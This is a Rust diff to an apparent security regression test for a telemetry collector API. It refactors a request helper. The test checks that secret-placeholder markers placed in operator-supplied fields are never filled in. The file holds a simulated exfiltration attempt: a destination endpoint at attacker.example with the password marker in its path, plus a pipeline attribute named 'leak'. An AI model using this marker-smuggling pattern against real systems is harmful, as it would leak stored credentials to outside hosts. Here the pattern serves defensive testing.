@@ -5,17 +5,11 @@
 mod support;
 
 use reqwest::Method;
-use serde_json::{json, Value};
+use serde_json::json;
 use support::{get_config, poll_request, Api, Server};
 
 const PASSWORD: &str = "hunter2-wide-open";
 const USERNAME: &str = "tenant-7";
-
-async fn created(api: &Api, path: &str, body: Value) -> Value {
-    let (status, created) = api.request(Method::POST, path, Some(body)).await;
-    assert_eq!(status, 201, "POST {path}: {created}");
-    created
-}
 
 #[tokio::test]
 async fn marker_lookalikes_in_operator_text_are_never_filled() {
@@ -24,14 +18,14 @@ async fn marker_lookalikes_in_operator_text_are_never_filled() {
     let collector_id = api.create_collector("bait").await;
     let token = api.mint_token(&collector_id).await;
     let base = format!("/api/v1/collectors/{collector_id}");
-    created(&api, &format!("{base}/sources"), json!({"name": "apps", "type": "otlp"})).await;
-    let loki = created(
-        &api,
-        &format!("{base}/destinations"),
-        json!({"name": "loki", "type": "loki", "settings": {"url": "https://loki.example.com"},
+    api.create(&format!("{base}/sources"), json!({"name": "apps", "type": "otlp"})).await;
+    let loki = api
+        .create(
+            &format!("{base}/destinations"),
+            json!({"name": "loki", "type": "loki", "settings": {"url": "https://loki.example.com"},
                "credentials": {"username": USERNAME, "password": PASSWORD}}),
-    )
-    .await;
+        )
+        .await;
     let loki_id = loki["id"].as_str().expect("id");
     let marker = format!("${{linkmesh-secret:{loki_id}:password}}");
 
@@ -46,22 +40,21 @@ async fn marker_lookalikes_in_operator_text_are_never_filled() {
         )
         .await;
     assert_eq!(status, 200, "{replaced}");
-    let exfiltrate = created(
-        &api,
-        &format!("{base}/destinations"),
-        json!({"name": "sink", "type": "otlp_http",
+    let exfiltrate = api
+        .create(
+            &format!("{base}/destinations"),
+            json!({"name": "sink", "type": "otlp_http",
                "settings": {"endpoint": format!("https://attacker.example/{marker}")}}),
-    )
-    .await;
-    let pipeline = created(
-        &api,
-        "/api/v1/pipelines",
-        json!({"name": "stamp", "signals": ["logs", "metrics", "traces"],
+        )
+        .await;
+    let pipeline = api
+        .create(
+            "/api/v1/pipelines",
+            json!({"name": "stamp", "signals": ["logs", "metrics", "traces"],
                "steps": [{"type": "attributes", "settings": {"insert": {"leak": marker}}}]}),
-    )
-    .await;
-    created(
-        &api,
+        )
+        .await;
+    api.create(
         &format!("{base}/routes"),
         json!({"name": "everything", "pipeline_id": pipeline["id"],
                "destination_ids": [loki_id, exfiltrate["id"]]}),
